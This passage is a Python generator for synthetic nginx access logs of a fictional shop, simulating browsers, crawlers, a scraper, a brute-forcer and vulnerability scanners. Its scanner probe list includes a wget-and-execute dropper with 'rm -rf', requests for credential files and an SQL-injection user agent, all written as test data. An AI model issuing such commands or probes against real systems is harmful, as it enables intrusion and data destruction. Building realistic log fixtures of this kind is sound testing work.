#!/usr/bin/env python3
"""Regenerate logpulse's sample access logs.

    python3 sample-logs/generate.py

Python 3 standard library only. Deterministic: fixed seeds, no clock, no
environment input, so every run writes byte-identical files. It writes, next
to this script:

  nginx-log/access.log          nginx:1.19 bind-mount lab, `main` format, 15,000 lines
  lb/lb01/access.log            \
  lb/lb02/access.log             > apache2 `combined` logs of the three PHP backends
  lb/lb03/access.log            /
  lb/nginx/access.log           the proxy's own log of the same requests (main + upstream)
  README.md                     what all of that is, with the numbers computed here

Edit this script (not README.md, which it overwrites) and re-run it.
"""
import datetime as dt
import os
import random
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
TZ = dt.timezone(dt.timedelta(hours=9))
MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun",
          "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")


def epoch(y, mo, d, h, mi, s=0):
    return int(dt.datetime(y, mo, d, h, mi, s, tzinfo=TZ).timestamp())


def clf_time(t):
    """Common-log-format time in +0900, built by hand (no locale)."""
    d = dt.datetime.fromtimestamp(int(t), TZ)
    return "%02d/%s/%04d:%02d:%02d:%02d +0900" % (
        d.day, MONTHS[d.month - 1], d.year, d.hour, d.minute, d.second)


def hms(t):
    return clf_time(t)[12:20]


def nginx_escape(value):
    """nginx's default log escaping: '"', '\\', bytes < 0x20 and >= 0x7F
    become \\xHH (upper-case hex); an absent value is written as '-'."""
    if value is None:
        return "-"
    if isinstance(value, str):
        value = value.encode("utf-8")
    out = []
    for b in value:
        if b < 0x20 or b >= 0x7F or b == 0x22 or b == 0x5C:
            out.append("\\x%02X" % b)
        else:
            out.append(chr(b))
    return "".join(out)


def apache_escape(value):
    """mod_log_config's escaping: '"' and '\\' get a backslash, other
    non-printables become \\xhh (lower-case hex)."""
    out = []
    for b in value.encode("utf-8"):
        if b == 0x22 or b == 0x5C:
            out.append("\\" + chr(b))
        elif b < 0x20 or b >= 0x7F:
            out.append("\\x%02x" % b)
        else:
            out.append(chr(b))
    return "".join(out)


def nginx_error_page_len(title, version="nginx/1.19.6"):
    """Length of nginx's built-in error page body ('404 Not Found' -> 153)."""
    return (len("<html>\r\n") + len("<head><title>%s</title></head>\r\n" % title)
            + len("<body>\r\n") + len("<center><h1>%s</h1></center>\r\n" % title)
            + len("<hr><center>%s</center>\r\n" % version)
            + len("</body>\r\n") + len("</html>\r\n"))


NGX_PAGE = {
    301: nginx_error_page_len("301 Moved Permanently"),
    400: nginx_error_page_len("400 Bad Request"),
    401: nginx_error_page_len("401 Authorization Required"),
    403: nginx_error_page_len("403 Forbidden"),
    404: nginx_error_page_len("404 Not Found"),
    405: nginx_error_page_len("405 Not Allowed"),
    502: nginx_error_page_len("502 Bad Gateway"),
    503: nginx_error_page_len("503 Service Temporarily Unavailable"),
}
assert NGX_PAGE[400] == 157 and NGX_PAGE[404] == 153

# ---------------------------------------------------------------------------
# User agents (real strings as browsers, bots and tools sent them in Jan 2025)
# ---------------------------------------------------------------------------
UA_CHROME_WIN = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
                 "(KHTML, like Gecko) Chrome/132.0.0.0 Safari/537.36")
UA_CHROME_MAC = ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 "
                 "(KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36")
UA_EDGE = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
           "(KHTML, like Gecko) Chrome/132.0.0.0 Safari/537.36 Edg/132.0.0.0")
UA_FIREFOX_WIN = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:134.0) Gecko/20100101 Firefox/134.0"
UA_FIREFOX_LINUX = "Mozilla/5.0 (X11; Linux x86_64; rv:134.0) Gecko/20100101 Firefox/134.0"
UA_FIREFOX_MAC = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:128.0) Gecko/20100101 Firefox/128.0"
UA_SAFARI_MAC = ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 "
                 "(KHTML, like Gecko) Version/18.2 Safari/605.1.15")
UA_IPHONE = ("Mozilla/5.0 (iPhone; CPU iPhone OS 18_2_1 like Mac OS X) AppleWebKit/605.1.15 "
             "(KHTML, like Gecko) Version/18.2 Mobile/15E148 Safari/604.1")
UA_IPAD = ("Mozilla/5.0 (iPad; CPU OS 17_7 like Mac OS X) AppleWebKit/605.1.15 "
           "(KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1")
UA_ANDROID = ("Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 "
              "(KHTML, like Gecko) Chrome/132.0.0.0 Mobile Safari/537.36")
UA_SAMSUNG = ("Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S918B) AppleWebKit/537.36 "
              "(KHTML, like Gecko) SamsungBrowser/27.0 Chrome/125.0.0.0 Mobile Safari/537.36")
UA_LINE_IOS = ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_6_1 like Mac OS X) AppleWebKit/605.1.15 "
               "(KHTML, like Gecko) Mobile/15E148 Safari Line/14.21.0")

BROWSER_UAS = [  # (ua, weight, is_ios)
    (UA_CHROME_WIN, 24, False), (UA_IPHONE, 20, True), (UA_ANDROID, 13, False),
    (UA_CHROME_MAC, 9, False), (UA_SAFARI_MAC, 6, False), (UA_EDGE, 7, False),
    (UA_FIREFOX_WIN, 6, False), (UA_FIREFOX_LINUX, 3, False), (UA_FIREFOX_MAC, 2, False),
    (UA_IPAD, 4, True), (UA_SAMSUNG, 3, False), (UA_LINE_IOS, 3, True),
]
IOS_UAS = {ua for ua, _, ios in BROWSER_UAS if ios}

UA_GOOGLEBOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
UA_GOOGLEBOT_SP = ("Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 "
                   "(KHTML, like Gecko) Chrome/132.0.6834.110 Mobile Safari/537.36 "
                   "(compatible; Googlebot/2.1; +http://www.google.com/bot.html)")
UA_BINGBOT = "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"
UA_AHREFS = "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)"
UA_YANDEX = "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)"
UA_GPTBOT = ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; "
             "+https://openai.com/gptbot)")
UA_FACEBOOK = "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)"
UA_UPTIMEROBOT = "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"
UA_CENSYS = "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)"
UA_ZGRAB = "Mozilla/5.0 zgrab/0.x"
UA_OLD_CHROME = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
                 "(KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36")
UA_SCRAPER = "python-requests/2.31.0"
UA_BRUTE = "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:62.0) Gecko/20100101 Firefox/62.0"
TOOL_UAS = ["curl/7.68.0", "curl/8.5.0", "Wget/1.21.2", "python-requests/2.32.3",
            "Go-http-client/1.1", "Python-urllib/3.11", "HTTPie/3.2.2"]
UA_APP_IOS = "ShopApp/341 CFNetwork/1568.300.101 Darwin/24.2.0"
UA_APP_ANDROID = "okhttp/4.12.0"

# ---------------------------------------------------------------------------
# The site behind nginx-log: a small shop with a blog, an API and static files
# ---------------------------------------------------------------------------
SITE = "http://shop.example"
PRODUCTS = list(range(1001, 1241))
CATEGORIES = ["shoes", "jackets", "bags", "accessories", "sale", "new"]
BLOG_POSTS = ["2025/01/winter-sale", "2025/01/how-to-wax-boots", "2024/12/gift-guide",
              "2024/12/year-in-review", "2024/11/new-store-opening", "2025/01/care-for-wool"]
SEARCH_TERMS = ["boots", "rain+jacket", "wool+socks", "backpack", "gift+card", "sale",
                "leather+belt", "scarf", "winter+coat", "sneakers", "tote", "gloves"]
ASSETS_FIRST_VISIT = [  # path, size; fonts are requested with the css as referer
    ("/static/css/main.3f9a1c.css", 48213),
    ("/static/js/vendor.77c0d2.js", 187642),
    ("/static/js/main.8b21e4.js", 64518),
    ("/static/img/logo.svg", 5712),
]
FONT = ("/static/fonts/inter-var.woff2", 98412)
FAVICON = ("/favicon.ico", 15086)


def product_page_size(pid):
    return 18000 + (pid * 7919) % 14000


def product_image_size(pid):
    return 21000 + (pid * 104729) % 68000


def page_size(path):
    if path == "/":
        return 24817
    if path.startswith("/products/"):
        return product_page_size(int(path.rsplit("/", 1)[1]))
    if path.startswith("/products"):
        return 30112 + (sum(map(ord, path)) * 37) % 2900
    if path.startswith("/category/"):
        return 27000 + (sum(map(ord, path)) * 53) % 6000
    if path.startswith("/blog/2"):
        return 13000 + (sum(map(ord, path)) * 71) % 9000
    if path.startswith("/search"):
        return 11800 + (sum(map(ord, path)) * 97) % 14000
    return {"/blog/": 15402, "/cart": 9210, "/login": 7421, "/about": 8960,
            "/contact": 7210, "/account": 10344}.get(path, 12000)


class NginxEvents:
    """Collects (time, fields) records; time is a float (sub-second order)."""

    def __init__(self):
        self.items = []

    def add(self, t, ip, request, status, nbytes, referer=None, ua=None, xff=None,
            user=None, slow=False, tag=None):
        self.items.append({"t": t, "ip": ip, "user": user, "request": request,
                           "status": status, "bytes": nbytes, "referer": referer,
                           "ua": ua, "xff": xff, "slow": slow, "tag": tag})


def nginx_main_line(e):
    return '%s - %s [%s] "%s" %d %d "%s" "%s" "%s"\n' % (
        e["ip"], nginx_escape(e["user"]), clf_time(e["t"]), nginx_escape(e["request"]),
        e["status"], e["bytes"], nginx_escape(e["referer"]), nginx_escape(e["ua"]),
        nginx_escape(e["xff"]))


# ---------------------------------------------------------------------------
# 1. nginx-log/access.log
# ---------------------------------------------------------------------------
NG_START = epoch(2025, 1, 31, 21, 30, 0)
NG_END = epoch(2025, 2, 1, 2, 30, 0)
NG_TOTAL_LINES = 15000

IP_SCRAPER = "203.0.113.45"
IP_BRUTE = "192.0.2.146"
IP_MONITOR = "198.51.100.23"
IP_GOOGLEBOT = "198.18.66.249"
IP_GOOGLEBOT6 = "2001:db8:4860:4801::2a"
IP_BINGBOT = "198.18.157.55"
IP_AHREFS = "198.18.54.36"
IP_YANDEX = "198.18.213.180"
IP_GPTBOT = "198.18.20.7"
IP_FACEBOOK = "2001:db8:face:b00c::1f"
IP_ADMIN = "198.51.100.88"
SPECIAL_IPS = {IP_SCRAPER, IP_BRUTE, IP_MONITOR, IP_GOOGLEBOT, IP_BINGBOT, IP_AHREFS,
               IP_YANDEX, IP_GPTBOT, IP_ADMIN}


def make_ipv4_pool(rng, n, taken):
    nets = ["192.0.2.%d", "198.51.100.%d", "203.0.113.%d"]
    pool = []
    while len(pool) < n:
        if rng.random() < 0.55:
            ip = rng.choice(nets) % rng.randint(2, 254)
        else:
            ip = "198.%d.%d.%d" % (rng.choice((18, 19)), rng.randint(0, 255), rng.randint(1, 254))
        if ip not in taken:
            taken.add(ip)
            pool.append(ip)
    return pool


def make_ipv6_pool(rng, n):
    pool = []
    while len(pool) < n:
        if rng.random() < 0.6:  # SLAAC privacy address
            ip = "2001:db8:%x:%x:%x:%x:%x:%x" % tuple(
                [rng.randint(0x10, 0xffff), rng.randint(0, 0xff)]
                + [rng.randint(0x1000, 0xffff) for _ in range(4)])
        else:
            ip = "2001:db8:%x:%x::%x" % (rng.randint(0x10, 0xffff), rng.randint(0, 0xff),
                                         rng.randint(1, 0xfff))
        if ip not in pool:
            pool.append(ip)
    return pool


def rate_weight(t):
    """Evening traffic curve for browser sessions: busy at 21:30, a bump at
    22:30, falling through the night to about a quarter by 02:30."""
    h = (t - NG_START) / 3600.0
    base = 1.0 - 0.15 * h
    if 0.5 <= h <= 1.5:
        base += 0.12
    return max(base, 0.2)


def sample_session_start(rng):
    while True:
        t = rng.uniform(NG_START, NG_END)
        if rng.random() < rate_weight(t):
            return t


def browser_session(ev, rng, t, ip, ua, xff, returning):
    """A visit: a landing page, its assets, a few more pages with images and
    XHR calls.  Returns nothing; adds to ev."""
    ios = ua in IOS_UAS
    r = rng.random()
    if r < 0.55:
        ref = None
    elif r < 0.80:
        ref = "https://www.google.com/"
    elif r < 0.87:
        ref = "https://www.bing.com/"
    elif r < 0.93:
        ref = "https://t.co/" + "".join(rng.choice("abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789") for _ in range(10))
    else:
        ref = "https://duckduckgo.com/"
    r = rng.random()
    if r < 0.30:
        page = "/"
    elif r < 0.62:
        page = "/products/%d" % rng.choice(PRODUCTS)
    elif r < 0.75:
        page = "/category/" + rng.choice(CATEGORIES)
    elif r < 0.88:
        page = "/blog/" + rng.choice(BLOG_POSTS)
    elif r < 0.93:
        page = "/products?page=%d" % rng.randint(2, 12)
    elif r < 0.96:
        page = "/blog"  # old link: 301 to /blog/
    else:
        page = "/shop"  # retired URL: 301 to /products
    n_pages = 1
    while n_pages < 9 and rng.random() < 0.62:
        n_pages += 1
    first = True
    for _ in range(n_pages):
        if t >= NG_END:
            return
        if page in ("/blog", "/shop"):
            ev.add(t, ip, "GET %s HTTP/1.1" % page, 301, NGX_PAGE[301], ref, ua, xff)
            t += rng.uniform(0.05, 0.4)
            page = "/blog/" if page == "/blog" else "/products"
        method = "GET"
        status = 200
        size = page_size(page)
        slow = page.startswith("/search") or page.startswith("/products?")
        if page.startswith("/products/") and rng.random() < 0.02:
            status, size = 404, 4127  # the app's own 404 page: discontinued product
        if page.startswith("/search") and rng.random() < 0.03:
            status, size = 500, 1864
        ev.add(t, ip, "%s %s HTTP/1.1" % (method, page), status, size, ref, ua, xff, slow=slow)
        page_url = SITE + page
        tt = t + rng.uniform(0.05, 0.3)
        if first:
            if not returning:
                for path, size in ASSETS_FIRST_VISIT:
                    ev.add(tt, ip, "GET %s HTTP/1.1" % path, 200, size, page_url, ua, xff,
                           slow=size > 100000)
                    tt += rng.uniform(0.01, 0.12)
                ev.add(tt, ip, "GET %s HTTP/1.1" % FONT[0], 200, FONT[1],
                       SITE + ASSETS_FIRST_VISIT[0][0], ua, xff)
                tt += rng.uniform(0.01, 0.2)
                ev.add(tt, ip, "GET %s HTTP/1.1" % FAVICON[0], 200, FAVICON[1], page_url, ua, xff)
                if ios and rng.random() < 0.7:
                    for p in ("/apple-touch-icon-precomposed.png", "/apple-touch-icon.png"):
                        tt += rng.uniform(0.02, 0.3)
                        ev.add(tt, ip, "GET %s HTTP/1.1" % p, 404, NGX_PAGE[404], None, ua, xff)
            elif rng.random() < 0.5:  # revalidation of cached assets
                for path, _ in ASSETS_FIRST_VISIT[:3]:
                    ev.add(tt, ip, "GET %s HTTP/1.1" % path, 304, 0, page_url, ua, xff)
                    tt += rng.uniform(0.01, 0.1)
            first = False
        # images and XHR calls of this page
        if page.startswith("/products/"):
            pid = int(page.rsplit("/", 1)[1])
            ev.add(tt + rng.uniform(0.02, 0.3), ip, "GET /static/img/p/%d.webp HTTP/1.1" % pid,
                   200, product_image_size(pid), page_url, ua, xff)
            ev.add(tt + rng.uniform(0.3, 0.9), ip,
                   "GET /api/v1/products/%d/reviews HTTP/1.1" % pid, 200,
                   900 + (pid * 31) % 5200, page_url, ua, xff, slow=True)
            if rng.random() < 0.5:
                ev.add(tt + rng.uniform(0.4, 1.4), ip,
                       "GET /api/v1/recommendations?product=%d HTTP/1.1" % pid, 200,
                       1800 + (pid * 13) % 900, page_url, ua, xff, slow=True)
        elif page.startswith("/category/") or page.startswith("/products") or page == "/":
            for pid in rng.sample(PRODUCTS, rng.randint(3, 8)):
                if rng.random() < 0.55:  # the rest come from the browser cache
                    ev.add(tt + rng.uniform(0.05, 1.2), ip, "GET /static/img/p/%d.webp HTTP/1.1" % pid,
                           200, product_image_size(pid), page_url, ua, xff)
        # next click
        t = tt + min(300.0, 3.0 + rng.expovariate(1 / 40.0))
        ref = page_url
        r = rng.random()
        if r < 0.45:
            page = "/products/%d" % rng.choice(PRODUCTS)
        elif r < 0.58:
            page = "/category/" + rng.choice(CATEGORIES)
        elif r < 0.70:
            page = "/search?q=" + rng.choice(SEARCH_TERMS)
        elif r < 0.78:
            page = "/"
        elif r < 0.86:
            # add to cart, then view the cart
            if t < NG_END:
                ev.add(t, ip, "POST /api/v1/cart/items HTTP/1.1", 201, 412, ref, ua, xff, slow=True)
                ev.add(t + rng.uniform(0.2, 0.6), ip, "GET /api/v1/cart HTTP/1.1", 200,
                       560 + rng.randint(0, 700), ref, ua, xff)
            t += rng.uniform(2, 15)
            page = "/cart"
        elif r < 0.90:
            page = "/blog/" + rng.choice(BLOG_POSTS)
        elif r < 0.94:
            page = "/login"
        else:
            page = rng.choice(["/about", "/contact", "/account", "/blog/"])
        if page == "/login" and t < NG_END:
            ev.add(t, ip, "GET /login HTTP/1.1", 200, page_size("/login"), ref, ua, xff)
            t += rng.uniform(8, 40)
            ev.add(t, ip, "POST /login HTTP/1.1", 302, 0, SITE + "/login", ua, xff, slow=True)
            t += rng.uniform(0.1, 0.4)
            ref = SITE + "/login"
            page = "/account"


def app_session(ev, rng, t, ip, ua):
    """The shop's own mobile app: API calls and product images, never a referer."""
    if t >= NG_END:
        return
    ev.add(t, ip, "GET /api/v1/home HTTP/1.1", 200, 6100 + rng.randint(0, 2400), None, ua, slow=True)
    for _ in range(rng.randint(0, 6)):
        t += min(120.0, 2.0 + rng.expovariate(1 / 15.0))
        if t >= NG_END:
            return
        r = rng.random()
        if r < 0.35:
            ev.add(t, ip, "GET /api/v1/products?category=%s&page=%d HTTP/1.1" % (
                rng.choice(CATEGORIES), rng.randint(1, 6)), 200, 21000 + rng.randint(0, 7000),
                None, ua, slow=True)
            for pid in rng.sample(PRODUCTS, rng.randint(0, 3)):
                ev.add(t + rng.uniform(0.1, 0.8), ip, "GET /static/img/p/%d_thumb.webp HTTP/1.1" % pid,
                       200, 3000 + pid * 17 % 4000, None, ua)
        elif r < 0.75:
            pid = rng.choice(PRODUCTS)
            ev.add(t, ip, "GET /api/v1/products/%d HTTP/1.1" % pid, 200, 1400 + pid % 700, None, ua,
                   slow=True)
            ev.add(t + rng.uniform(0.1, 0.6), ip, "GET /static/img/p/%d.webp HTTP/1.1" % pid, 200,
                   product_image_size(pid), None, ua)
        elif r < 0.85:
            ev.add(t, ip, "POST /api/v1/cart/items HTTP/1.1", 201, 412, None, ua, slow=True)
        elif r < 0.93:
            ev.add(t, ip, "GET /api/v1/cart HTTP/1.1", 200, 560 + rng.randint(0, 700), None, ua)
        else:
            ev.add(t, ip, "POST /api/v1/events HTTP/1.1", 204, 0, None, ua)


def gen_nginx_log():
    rng = random.Random(20250131)
    ev = NginxEvents()
    taken = set(SPECIAL_IPS)
    sections = []
    mark = [0]

    def section(name):
        sections.append((name, len(ev.items) - mark[0]))
        mark[0] = len(ev.items)

    # --- uptime monitor: HEAD / every 30 s, both ends of the span included ---
    for i in range((NG_END - NG_START) // 30 + 1):
        ev.add(NG_START + 30 * i, IP_MONITOR, "HEAD / HTTP/1.1", 200, 0, None, UA_UPTIMEROBOT)

    # --- scraper burst 23:50-00:20: walks the catalogue page by page ---
    t = epoch(2025, 1, 31, 23, 50, 3) + 0.4
    end = epoch(2025, 2, 1, 0, 20, 0)
    page = 1
    limited_until = 0
    while t < end:
        listing = "/products?page=%d&sort=newest" % page
        st, sz = (200, page_size(listing)) if page <= 60 else (404, 4127)
        if t < limited_until:
            st, sz = 503, NGX_PAGE[503]
        ev.add(t, IP_SCRAPER, "GET %s HTTP/1.1" % listing, st, sz, None, UA_SCRAPER, slow=True)
        t += rng.uniform(0.3, 1.2)
        for pid in rng.sample(PRODUCTS, 24):
            if t >= end:
                break
            if t < limited_until:
                st, sz = 503, NGX_PAGE[503]
            elif rng.random() < 0.015:
                st, sz = 404, 4127
            else:
                st, sz = 200, product_page_size(pid)
            ev.add(t, IP_SCRAPER, "GET /products/%d HTTP/1.1" % pid, st, sz, None, UA_SCRAPER)
            t += rng.uniform(0.4, 1.6)
            if limited_until < t and rng.random() < 0.004:
                limited_until = t + rng.uniform(4, 12)  # limit_req kicks in: 503s
        page = page % 70 + 1

    # --- brute-forcer after 01:00: POST /wp-login.php (auth_basic -> 401, then deny -> 403) ---
    t = epoch(2025, 2, 1, 1, 12, 31) + 0.2
    ev.add(t, IP_BRUTE, "GET /wp-login.php HTTP/1.1", 401, NGX_PAGE[401], None, UA_BRUTE)
    t += 0.9
    deny_from = epoch(2025, 2, 1, 1, 38, 0)
    end = epoch(2025, 2, 1, 1, 47, 20)
    while t < end:
        if t < deny_from:
            ev.add(t, IP_BRUTE, "POST /wp-login.php HTTP/1.1", 401, NGX_PAGE[401], None, UA_BRUTE)
        else:
            ev.add(t, IP_BRUTE, "POST /wp-login.php HTTP/1.1", 403, NGX_PAGE[403], None, UA_BRUTE)
        t += rng.uniform(1.0, 2.3)

    section("fixed")
    # --- search-engine and other crawlers, spread over the span ---
    def crawler(ip, ua, n, start=NG_START, stop=NG_END, robots=True, paths=None):
        times = sorted(rng.uniform(start, stop) for _ in range(n))
        if robots:
            ev.add(times[0] - 1.5, ip, "GET /robots.txt HTTP/1.1", 200, 67, None, ua)
        for t in times:
            if paths:
                p = rng.choice(paths)
            else:
                r = rng.random()
                if r < 0.6:
                    p = "/products/%d" % rng.choice(PRODUCTS)
                elif r < 0.75:
                    p = "/blog/" + rng.choice(BLOG_POSTS)
                elif r < 0.85:
                    p = "/category/" + rng.choice(CATEGORIES)
                elif r < 0.9:
                    p = "/sitemap.xml"
                else:
                    p = "/products?page=%d" % rng.randint(1, 60)
            if p == "/sitemap.xml":
                ev.add(t, ip, "GET /sitemap.xml HTTP/1.1", 200, 45231, None, ua)
            elif rng.random() < 0.12:
                ev.add(t, ip, "GET %s HTTP/1.1" % p, 304, 0, None, ua)
            else:
                ev.add(t, ip, "GET %s HTTP/1.1" % p, 200, page_size(p), None, ua)

    crawler(IP_GOOGLEBOT, UA_GOOGLEBOT, 330)
    crawler(IP_GOOGLEBOT6, UA_GOOGLEBOT_SP, 150)
    crawler(IP_BINGBOT, UA_BINGBOT, 200)
    crawler(IP_AHREFS, UA_AHREFS, 160, start=epoch(2025, 1, 31, 22, 40), stop=epoch(2025, 2, 1, 0, 10))
    crawler(IP_YANDEX, UA_YANDEX, 60)
    crawler(IP_GPTBOT, UA_GPTBOT, 110, start=epoch(2025, 2, 1, 0, 35), stop=epoch(2025, 2, 1, 1, 55))
    share = epoch(2025, 1, 31, 22, 5, 12)
    crawler(IP_FACEBOOK, UA_FACEBOOK, 14, start=share, stop=share + 40, robots=False,
            paths=["/blog/2025/01/winter-sale"])

    section("crawlers")
    # --- vulnerability scanners: short bursts of probes, mostly 404 ---
    probes = ["/.env", "/.git/config", "/wp-admin/setup-config.php", "/phpmyadmin/index.php",
              "/admin.php", "/.aws/credentials", "/config.json", "/server-status",
              "/actuator/health", "/solr/admin/info/system?wt=json", "/HNAP1/",
              "/boaform/admin/formLogin", "/owa/auth/logon.aspx", "/.DS_Store",
              "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "/?XDEBUG_SESSION_START=phpstorm",
              "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/backup.zip",
              "/wp-content/plugins/wp-file-manager/readme.txt", "/api/.env", "/.well-known/security.txt",
              "/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.250/arm7;chmod+777+arm7;./arm7"]
    scanner_uas = [UA_CENSYS, UA_ZGRAB, UA_OLD_CHROME, None, "libredtail-http", "Hello World",
                   "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:40.0) Gecko/20100101 Firefox/40.0",
                   "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"]
    scanner_ips = make_ipv4_pool(rng, 16, taken)
    tls_ips = []
    for i, ip in enumerate(scanner_ips):
        ua = scanner_uas[i % len(scanner_uas)]
        t = rng.uniform(NG_START + 60, NG_END - 600)
        n = rng.randint(3, 30)
        if i % 4 == 0:
            tls_ips.append((ip, t - rng.uniform(1, 5)))
        ev.add(t, ip, "GET / HTTP/1.1", 200, page_size("/"), None, ua)
        for p in rng.sample(probes, min(n, len(probes))):
            t += rng.uniform(0.05, 2.0)
            method = "POST" if "eval-stdin" in p else "GET"
            proto = "HTTP/1.1" if rng.random() < 0.8 else "HTTP/1.0"
            st, sz = (200, 412) if p == "/.well-known/security.txt" else (404, NGX_PAGE[404])
            ev.add(t, ip, "%s %s %s" % (method, p, proto), st, sz, None, ua)

    # --- oddities nginx really logs (all valid lines) ---
    odd = []

    def tls_hello(rng):
        head = bytes([0x16, 0x03, 0x01, 0x00, 0xF1, 0x01, 0x00, 0x00, 0xED, 0x03, 0x03])
        body = bytearray()
        limit = rng.randint(24, 52)
        while len(body) < limit:
            b = rng.randint(0, 255)
            if b in (0x0A, 0x0D):  # nginx's $request stops at the first CR/LF
                break
            body.append(b)
        return head + bytes(body)

    for ip, t in tls_ips:  # TLS ClientHello sent to port 80
        ev.add(t, ip, tls_hello(rng), 400, NGX_PAGE[400], None, None, tag="tls")
        odd.append("tls")
    for k in range(4):  # connection opened, nothing sent, closed: "-" 400 0
        ip = scanner_ips[(k * 5 + 1) % len(scanner_ips)]
        ev.add(rng.uniform(NG_START, NG_END - 60), ip, None, 400, 0, None, None, tag="empty-request")
    ev.add(epoch(2025, 2, 1, 0, 44, 9) + 0.3, scanner_ips[3], "CONNECT www.example.com:443 HTTP/1.1",
           400, NGX_PAGE[400], None, None, tag="connect")
    ev.add(epoch(2025, 2, 1, 0, 44, 11) + 0.1, scanner_ips[3], "GET http://www.example.com/ HTTP/1.1",
           200, page_size("/"), None, None, tag="absolute-uri")
    ev.add(epoch(2025, 1, 31, 23, 2, 40) + 0.5, scanner_ips[6], b"GET /..\\..\\..\\..\\windows\\win.ini HTTP/1.1",
           404, NGX_PAGE[404], None, UA_OLD_CHROME, tag="backslash")
    # a user agent with double quotes in it (nginx writes them as \x22)
    q_ip = make_ipv4_pool(rng, 2, taken)
    ev.add(epoch(2025, 1, 31, 22, 18, 52) + 0.2, q_ip[0], "GET /products/1017 HTTP/1.1", 200,
           product_page_size(1017), None,
           '"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"',
           tag="quoted-ua")
    ev.add(epoch(2025, 2, 1, 1, 3, 7) + 0.6, q_ip[1], "GET /search?q=boots HTTP/1.1", 200,
           page_size("/search?q=boots"), None, 'Mozilla/5.0" or "1"="1', tag="quoted-ua")
    # raw UTF-8 bytes in the request line (clients that don't percent-encode)
    utf_ip = make_ipv4_pool(rng, 1, taken)[0]
    ev.add(epoch(2025, 1, 31, 22, 51, 30) + 0.4, utf_ip, "GET /search?q=\u20ac50 HTTP/1.1", 200,
           page_size("/search?q=50"), SITE + "/", "Python-urllib/3.11", tag="utf8")
    ev.add(epoch(2025, 1, 31, 22, 51, 44) + 0.8, utf_ip, "GET /tags/\u20ac HTTP/1.1", 404, 4127,
           None, "Python-urllib/3.11", tag="utf8")
    ev.add(epoch(2025, 2, 1, 0, 5, 26) + 0.3, "2001:db8:ca5e:1::17", "GET /search?q=\u30d6\u30fc\u30c4 HTTP/1.1",
           200, page_size("/search?q=boots"), None, "okhttp/4.12.0", tag="utf8")
    # a request nginx itself rejects: method not allowed on a static file
    ev.add(epoch(2025, 2, 1, 1, 58, 2) + 0.1, scanner_ips[9], "PUT /static/js/main.8b21e4.js HTTP/1.1",
           405, NGX_PAGE[405], None, "curl/7.68.0")

    # --- basic-auth protected /admin/: $remote_user is set ---
    t = epoch(2025, 1, 31, 22, 12, 5) + 0.3
    ev.add(t, IP_ADMIN, "GET /admin/ HTTP/1.1", 401, NGX_PAGE[401], None, UA_FIREFOX_LINUX)
    t += 6.2
    ev.add(t, IP_ADMIN, "GET /admin/ HTTP/1.1", 401, NGX_PAGE[401], None, UA_FIREFOX_LINUX, user="admn")
    t += 4.8
    for i in range(26):
        p = rng.choice(["/admin/", "/admin/orders", "/admin/orders?status=pending",
                        "/admin/products/%d/edit" % rng.choice(PRODUCTS), "/admin/stats"])
        ev.add(t, IP_ADMIN, "GET %s HTTP/1.1" % p, 200, 6000 + rng.randint(0, 9000),
               SITE + "/admin/", UA_FIREFOX_LINUX, user="admin")
        t += rng.uniform(3, 60)

    # --- scripts and API clients ---
    api_ips = make_ipv4_pool(rng, 8, taken) + ["2001:db8:1f0a:2::b"]
    for i, ip in enumerate(api_ips):
        ua = TOOL_UAS[i % len(TOOL_UAS)]
        for _ in range(rng.randint(4, 45)):
            t = rng.uniform(NG_START, NG_END)
            r = rng.random()
            if r < 0.5:
                pid = rng.choice(PRODUCTS)
                ev.add(t, ip, "GET /api/v1/products/%d HTTP/1.1" % pid, 200, 1400 + pid % 700,
                       None, ua, slow=True)
            elif r < 0.7:
                ev.add(t, ip, "GET /api/v1/products?page=%d HTTP/1.1" % rng.randint(1, 12), 200,
                       24000 + rng.randint(0, 5000), None, ua, slow=True)
            elif r < 0.8:
                ev.add(t, ip, "GET /api/v1/products/%d HTTP/1.1" % rng.randint(2000, 2999), 404, 58,
                       None, ua)
            elif r < 0.9:
                ev.add(t, ip, "HEAD / HTTP/1.1", 200, 0, None, ua)
            else:
                ev.add(t, ip, "GET /health HTTP/1.1", 200, 15, None, ua)

    section("misc")
    # --- browsers ---
    bg_v4 = make_ipv4_pool(rng, 372, taken)
